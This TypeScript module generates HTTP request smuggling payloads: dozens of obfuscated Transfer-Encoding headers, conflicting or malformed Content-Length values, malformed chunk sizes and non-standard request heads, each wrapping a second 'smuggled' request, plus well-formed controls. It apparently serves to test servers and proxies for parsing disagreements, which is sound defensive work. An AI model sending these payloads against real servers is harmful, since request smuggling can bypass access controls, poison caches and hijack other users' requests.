// Requests whose end is ambiguous: two readers that disagree about it see different requests behind it.

/** A request with an end that depends on its reader. The smuggled request follows for one, and is a body for the other. */
export type Ambiguity = { how: string; bytes: (request: string, smuggled: string) => string };

const CRLF = "\r\n";
/** Headers of a transfer coding that must be rejected, or read as exactly one thing, if a length is sent as well. */
const CODINGS = [
  "Transfer-Encoding: chunked", "Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", " Transfer-Encoding: chunked", "X: y\r\n Transfer-Encoding: chunked", "X: y\r\n\tTransfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked",
  "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: chunked;q=1", "Transfer-Encoding: cow",
  "transfer-encoding: CHUNKED", "Transfer-Encoding: \tchunked\t", "Transfer-Encoding: chunked\x00", "Transfer-Encoding\x00: chunked", "Transfer-Encoding: \x0bchunked", "X: y\rTransfer-Encoding: chunked", "X: y\nTransfer-Encoding: chunked", "Transfer-Encoding:", "Transfer-Encoding: chunked\xa0",
];
/** Lengths that are no number of bytes, or more than one. N is the length of all that follows. */
const LENGTHS = [
  "Content-Length: 0\r\nContent-Length: N", "Content-Length: N\r\nContent-Length: 0", "Content-Length: 0, N", "Content-Length: N, 0", "Content-Length: +0", "Content-Length: -1", "Content-Length: 0x0", "Content-Length: 0 0", "Content-Length: ",
  "Content-Length: 18446744073709551616", "Content-Length: 18446744073709551615", "Content-Length: 9223372036854775808", "Content-Length: 1e0", "Content-Length: 0.0", "Content-Length: \x000", "Content-Length : 0", "Content-Length\x00: 0", " Content-Length: 0", "Content-Length:\r\n 0",
  "Content-Length: 0\rX: y", "Content-Length: ０",
];
/** Chunks with a size or an end that readers may take for something else. */
const CHUNKS = [
  "-1\r\n", "+0\r\n\r\n", "0x0\r\n\r\n", " 0\r\n\r\n", "0 \x00\r\n\r\n", "10000000000000000\r\n", "ffffffffffffffff\r\n", "fffffffffffffffff0\r\n", "g\r\n", "\r\n", "0\n\n", "0\r\r", "1\r\nAA\r\n0\r\n\r\n", "1\r\nA0\r\n\r\n", "0;\n\r\n", "0;a=\"\n\"\r\n\r\n", "0\r\n\0: x\r\n\r\n", "0\r\nX : y\r\n\r\n",
];

/**
 * Heads that are no HTTP, with an end that a lenient reader accepts. Not among them: line feeds alone, which every reader may
 * accept (RFC 9112, section 2.2), and a wrong `Host`, since neither moves the end.
 */
const HEADS: [string, (request: string) => string][] = [
  ["bare carriage returns", (request) => `${request.replaceAll(CRLF, "\r")}Content-Length: 0\r\r`],
  ["a null byte in a header", (request) => `${request}X: a\0b${CRLF}Content-Length: 0${CRLF.repeat(2)}`],
  ["a null byte in a name", (request) => `${request}X\0: b${CRLF}Content-Length: 0${CRLF.repeat(2)}`],
  ["a header without a colon", (request) => `${request}X${CRLF}Content-Length: 0${CRLF.repeat(2)}`],
  ["a header without a name", (request) => `${request}: x${CRLF}Content-Length: 0${CRLF.repeat(2)}`],
  ["a folded header", (request) => `${request}X: a${CRLF} b${CRLF}Content-Length: 0${CRLF.repeat(2)}`],
  ["a space before the first header", (request) => `${request.replace("Host", " Host")}Content-Length: 0${CRLF.repeat(2)}`],
  ["HTTP/1.0 with a coding", (request) => `${request.replace("HTTP/1.1", "HTTP/1.0")}Connection: keep-alive${CRLF}Transfer-Encoding: chunked${CRLF}${CRLF}0${CRLF.repeat(2)}`],
  ["HTTP/2.0", (request) => `${request.replace("HTTP/1.1", "HTTP/2.0")}Content-Length: 0${CRLF.repeat(2)}`],
  ["HTTP/1.10", (request) => `${request.replace("HTTP/1.1", "HTTP/1.10")}Content-Length: 0${CRLF.repeat(2)}`],
  ["HTTP/0.9", (request) => `${request.split(" ").slice(0, 2).join(" ")}${CRLF}`],
  ["a tab in the request line", (request) => `${request.replace(" HTTP", "\tHTTP")}Content-Length: 0${CRLF.repeat(2)}`],
  ["a body in two lengths by Connection", (request) => `${request}Connection: Content-Length${CRLF}Content-Length: 0${CRLF}Content-Length: 5${CRLF.repeat(2)}`],
];

const sized = (text: string) => text.length.toString(16) + CRLF;

/** `request` is a head without its last line break. */
export const AMBIGUITIES: Ambiguity[] = [
  ...CODINGS.flatMap((coding): Ambiguity[] => [
    {
      how: `${JSON.stringify(coding)} and a longer length`,
      bytes: (request, smuggled) => `${request}Content-Length: ${smuggled.length + 5}${CRLF}${coding}${CRLF.repeat(2)}0${CRLF.repeat(2)}${smuggled}`,
    },
    {
      how: `${JSON.stringify(coding)} and a shorter length`,
      bytes: (request, smuggled) => `${request}Content-Length: ${sized(smuggled).length}${CRLF}${coding}${CRLF.repeat(2)}${sized(smuggled)}${smuggled}${CRLF}0${CRLF.repeat(2)}`,
    },
  ]),
  ...LENGTHS.map((length): Ambiguity => ({ how: JSON.stringify(length), bytes: (request, smuggled) => `${request}${length.replace("N", String(smuggled.length))}${CRLF.repeat(2)}${smuggled}` })),
  ...CHUNKS.map((chunk): Ambiguity => ({ how: `chunk ${JSON.stringify(chunk)}`, bytes: (request, smuggled) => `${request}Transfer-Encoding: chunked${CRLF.repeat(2)}${chunk}${smuggled}` })),
  ...HEADS.map(([how, head]): Ambiguity => ({ how, bytes: (request, smuggled) => head(request) + smuggled })),
];

/** Requests with one end, after which another request may follow. */
export const CLEAR: Ambiguity[] = [
  { how: "a length", bytes: (request, next) => `${request}Content-Length: 5${CRLF.repeat(2)}a=b&c${next}` },
  { how: "chunks", bytes: (request, next) => `${request}Transfer-Encoding: chunked${CRLF.repeat(2)}5${CRLF}a=b&c${CRLF}0${CRLF.repeat(2)}${next}` },
  { how: "chunks with extensions", bytes: (request, next) => `${request}Transfer-Encoding: chunked${CRLF.repeat(2)}5;a=b;c="d"${CRLF}a=b&c${CRLF}0;e${CRLF.repeat(2)}${next}` },
];
